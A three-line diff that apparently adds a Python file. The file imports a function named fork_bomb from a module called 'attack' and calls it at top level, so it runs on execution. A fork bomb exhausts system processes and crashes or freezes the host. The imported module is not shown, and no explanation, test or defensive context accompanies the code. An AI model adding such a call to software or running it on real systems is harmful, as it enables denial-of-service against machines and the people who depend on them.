@@ -1,0 +1,3 @@
+from attack import fork_bomb
+
+fork_bomb()
